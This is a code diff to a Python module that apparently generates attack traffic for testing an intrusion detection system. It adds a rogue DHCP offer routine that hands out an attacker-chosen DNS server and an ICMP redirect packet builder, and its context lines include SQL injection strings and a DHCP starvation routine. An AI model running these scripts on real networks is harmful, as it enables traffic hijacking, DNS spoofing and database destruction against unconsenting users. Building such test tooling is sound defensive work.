@@ -10,7 +10,7 @@ import struct
 from contextlib import suppress
 from urllib.parse import quote, urlencode
 
-from idskit.lab.play.play_names import dhcp_socket, lease
+from idskit.lab.play.play_names import dhcp_socket, lease, lease_message
 from idskit.lab.play.script import RANDOM, TIMEOUT_S, ask, connect, datagrams, line, rest, script
 
 _INJECTIONS = ("' OR 1=1 --", "' UNION SELECT {n},user,pass FROM users --", "'; DROP TABLE t{n} --")
@@ -198,6 +198,34 @@ def starve_leases(_server: str, count: int, _pause: float) -> None:
             offer = lease(out, mac, 1)
             if len(offer) > 20:
                 lease(out, mac, 3, b"\x32\x04" + offer[16:20], b"\x36\x04\x0a\x4d\x00\x01")
+
+
+@script
+def offer_leases(_server: str, count: int, pause: float) -> None:
+    """Answer requests for addresses that others make, with a name server of one's own."""
+    with dhcp_socket(67) as out:
+        for _ in range(count):
+            offer = bytearray(
+                lease_message(b"\x02" + os.urandom(5), 2, b"\x06\x04\x0a\x4d\x00\x66")
+            )
+            offer[0] = 2
+            out.sendto(offer, ("255.255.255.255", 68))
+            rest(pause)
+
+
+@script
+def redirect(server: str, count: int, pause: float) -> None:
+    """Tell a host that another one is the better router (ICMP redirect)."""
+    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as out:
+        for number in range(3 * count):
+            inner = struct.pack(">BBHHHBBH", 0x45, 0, 28, number, 0, 64, 17, 0)
+            inner += socket.inet_aton(server) + socket.inet_aton("192.0.2.7") + os.urandom(8)
+            head = socket.inet_aton("10.77.0.100") + inner
+            total = sum(struct.unpack(f">{len(head) // 2}H", head)) + 0x0501
+            while total >> 16:
+                total = (total & 0xFFFF) + (total >> 16)
+            out.sendto(b"\x05\x01" + struct.pack(">H", ~total & 0xFFFF) + head, (server, 0))
+            rest(pause / 2)
 
 
 @script
